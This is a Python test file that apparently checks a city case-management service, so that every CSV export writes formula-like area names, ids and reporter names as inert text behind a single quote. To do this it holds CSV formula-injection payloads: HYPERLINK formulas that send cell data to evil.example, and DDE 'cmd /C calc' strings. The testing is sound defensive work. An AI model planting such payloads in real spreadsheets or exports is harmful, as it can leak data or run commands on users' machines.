"""Every CSV gridcase sends over HTTP, with the text other people chose in it: area ids and names from an
imported area file, and reporters (a token's subject). A cell a spreadsheet would evaluate (starting with
``=``, ``+``, ``-`` or ``@``) must come out inert, with a leading single quote, in every export and its
header, on SQLite and on PostgreSQL (``shared/exports.py``, the only CSV writer).

A tab or a carriage return cannot start a stored id, name or subject (they are control characters, which
``shared/fields.py:storable_problem`` refuses at the edge); the writer's rule for them is held by
``tests/unit/test_exports.py``.

The endpoints are found from the OpenAPI descriptions (every operation that answers ``text/csv``), so a new
CSV export that is not in ``EXPORTS`` fails here until it is added.
"""
from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import requests
from shapely.geometry import shape

from harness.processes import wait_for
from tests.support.hostile import target_fixture

target = target_fixture()

#: The hostile units: level → (its new id, its new name). One grid, its station and its sub-center.
UNITS = {
    "grid": ('=HYPERLINK("http://evil.example/?"&A1,"grid")', "-2+3+cmd|' /C calc'!A0"),
    "station": ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "subcenter": ("@SUM(A1:A9)", "=1+1"),
}
#: Reporters (token subjects) a spreadsheet would evaluate, one per formula start.
REPORTERS = ('=HYPERLINK("http://evil.example/?"&A1,"reporter")', "+1+1", "-1+1", "@SUM(1)")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LEVELS = ("hq", "subcenter", "station", "grid")

#: Every CSV export: (name, path, query). The statistics are one export per grouping that writes text someone
#: outside gridcase chose (each writes other columns), with rankings and both languages of the header.
#: Categories and severities are the policy's own codes; a department's id cannot start like a formula
#: (``shared/departments.py:ID_PATTERN``).
EXPORTS = [
    ("case list", "/escalation/v1/cases", {"format": "csv", "page_size": "200"}),
    *[(f"statistics by {group}", "/escalation/v1/stats/closure-times",
       {"group_by": group, "period": "day", "format": "csv", "lang": "en"})
      for group in ("grid", "station", "subcenter", "reporter")],
    ("statistics by grid, ranked, in Chinese", "/escalation/v1/stats/closure-times",
     {"group_by": "grid", "period": "month", "format": "csv", "lang": "zh", "rank_by": "opened"}),
    ("statistics by reporter, ranked", "/escalation/v1/stats/closure-times",
     {"group_by": "reporter", "period": "week", "format": "csv", "lang": "en", "rank_by": "closure_rate",
      "order": "asc"}),
]
#: What each export must show written inert: the hostile texts the test put into it.
EXPECTED = {
    "case list": [UNITS["grid"][0], UNITS["grid"][1], *REPORTERS],
    "statistics by grid": list(UNITS["grid"]),
    "statistics by station": list(UNITS["station"]),
    "statistics by subcenter": list(UNITS["subcenter"]),
    "statistics by reporter": list(REPORTERS),
    "statistics by grid, ranked, in Chinese": list(UNITS["grid"]),
    "statistics by reporter, ranked": list(REPORTERS),
}


def _levels(target) -> dict:
    """The active hierarchy as an import body's ``levels``."""
    out = {}
    for level in LEVELS:
        answer = requests.get(target.url("dispatch", "/dispatch/v1/areas"), params={"level": level, "simplify":
                              "false"}, headers=target.auth(), timeout=60)
        assert answer.status_code == 200, answer.text[:500]
        out[level] = {"type": "FeatureCollection", "features": [
            {"type": "Feature", "properties": {k: v for k, v in f["properties"].items() if k != "level"},
             "geometry": f["geometry"]} for f in answer.json()["features"]]}
    return out


@pytest.fixture(scope="module")
def hostile_city(target):
    """The target's city imported again with one grid, its station and its sub-center renamed to ``UNITS``
    (ids and names), then one case filed in that grid by each of ``REPORTERS``; yields (from, to), the
    local dates the statistics must ask for."""
    levels = _levels(target)
    grid = levels["grid"]["features"][0]["properties"]
    station = next(f["properties"] for f in levels["station"]["features"] if f["properties"]["id"] == grid["parent"])
    renamed = {grid["id"]: UNITS["grid"][0], station["id"]: UNITS["station"][0],
               station["parent"]: UNITS["subcenter"][0]}
    names = {UNITS[level][0]: UNITS[level][1] for level in UNITS}
    for level in LEVELS:
        for feature in levels[level]["features"]:
            props = feature["properties"]
            if props["id"] in renamed:
                props["id"] = renamed[props["id"]]
                props["name"] = names[props["id"]]
            if props.get("parent") in renamed:
                props["parent"] = renamed[props["parent"]]
    imported = requests.post(target.url("dispatch", "/dispatch/v1/areas"), json={"levels": levels, "activate": True},
                             headers=target.auth(), timeout=120)
    assert imported.status_code == 201, imported.text[:2000]

    point = shape(levels["grid"]["features"][0]["geometry"]).representative_point()
    grid_id = UNITS["grid"][0]
    where = {"lon": point.x, "lat": point.y}
    wait_for(lambda: (requests.get(target.url("dispatch", "/dispatch/v1/locate"), params=where, headers=target.auth(),
                                   timeout=10).json().get("grid") or {}).get("id") == grid_id,
             30, 0.2, "dispatch locating in the renamed grid")
    for reporter in REPORTERS:
        filed = requests.post(target.url("intake", "/intake/v1/reports"), timeout=10, json={
            "category": "street_light", "description": "lamp out", "location": {"lon": point.x, "lat": point.y}},
            headers={**target.auth("command", sub=reporter), "Idempotency-Key": uuid.uuid4().hex})
        assert filed.status_code == 201, filed.text
        case_id = filed.json()["id"]
        case = wait_for(lambda c=case_id: (r := requests.get(target.url("escalation", f"/escalation/v1/cases/{c}"),
                                                             headers=target.auth("supervisor"), timeout=10))
                        .status_code == 200 and r.json()["owner"]["area_name"] == UNITS["grid"][1] and r.json(),
                        30, 0.1, "the case in escalation, owned by the renamed grid under its name")
        assert case["owner"]["area_id"] == grid_id, case["owner"]
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    return (today - timedelta(days=1)).isoformat(), (today + timedelta(days=2)).isoformat()


def _csv_operations(target) -> set[tuple[str, str]]:
    """(method, path) of every operation whose OpenAPI description answers ``text/csv``."""
    found = set()
    for service in ("intake", "dispatch", "escalation"):
        spec = requests.get(target.url(service, f"/{service}/openapi.json"), timeout=10)
        assert spec.status_code == 200, (service, spec.status_code)
        for path, operations in spec.json()["paths"].items():
            for method, operation in operations.items():
                if method not in ("get", "put", "post", "delete", "patch"):  # "parameters" of the path
                    continue
                for answer in (operation.get("responses") or {}).values():
                    if "text/csv" in (answer.get("content") or {}):
                        found.add((method.upper(), path))
    return found


def test_every_csv_operation_of_the_three_services_is_exported_here(target):
    """The OpenAPI descriptions name every ``text/csv`` answer, and each is one of ``EXPORTS``."""
    assert _csv_operations(target) == {("GET", path) for _, path, _ in EXPORTS}


@pytest.mark.parametrize("name, path, query", EXPORTS, ids=[e[0] for e in EXPORTS])
def test_area_ids_names_and_reporters_chosen_like_formulas_are_inert_in_every_csv_export(
        target, hostile_city, name, path, query):
    start, end = hostile_city
    params = {**query, "from": start, "to": end} if "closure-times" in path else query

    def cells():
        answer = requests.get(target.url("escalation", path), params=params, headers=target.auth("supervisor"),
                              timeout=30)
        assert answer.status_code == 200, answer.text[:500]
        assert answer.headers["Content-Type"].startswith("text/csv"), answer.headers["Content-Type"]
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
        texts = {cell for row in rows for cell in row}
        return rows if all("'" + text in texts for text in EXPECTED[name]) else None

    rows = wait_for(cells, 30, 0.3, f"every hostile text in the {name} CSV, each behind a single quote")
    assert rows and len(rows[0]) > 1  # a header row at least
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _number(cell), (name, cell)
    for text in EXPECTED[name]:
        assert text not in {cell for row in rows for cell in row}, (name, "written live", text)


def _number(cell: str) -> bool:
    """A cell gridcase computed (a negative number is no formula to a spreadsheet)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_renamed_grid_was_what_the_cases_were_routed_to(target, hostile_city):
    answer = requests.get(target.url("escalation", "/escalation/v1/cases"), params={"area": UNITS["grid"][0]},
                          headers=target.auth("supervisor"), timeout=10)
    assert answer.status_code == 200, answer.text
    items = answer.json()["items"]
    assert len(items) == len(REPORTERS)
    assert {c["owner"]["area_name"] for c in items} == {UNITS["grid"][1]}


@pytest.mark.parametrize("start", ["\t", "\r"], ids=["tab", "carriage return"])
def test_a_reporter_or_an_area_name_starting_with_a_tab_or_a_carriage_return_never_gets_in(target, start):
    hidden = start + "=1+1"
    filed = requests.post(target.url("intake", "/intake/v1/reports"), timeout=10, json={
        "category": "street_light", "description": "lamp out", "location": {"lon": 0, "lat": 0}},
        headers={**target.auth("command", sub=hidden), "Idempotency-Key": uuid.uuid4().hex})
    assert filed.status_code == 401, filed.text
    levels = _levels(target)
    levels["grid"]["features"][0]["properties"]["name"] = hidden
    imported = requests.post(target.url("dispatch", "/dispatch/v1/areas"), json={"levels": levels, "activate": False},
                             headers=target.auth(), timeout=120)
    assert imported.status_code == 422, imported.text[:500]
    assert any(f["problem"] == "invalid_name" for f in imported.json()["findings"])
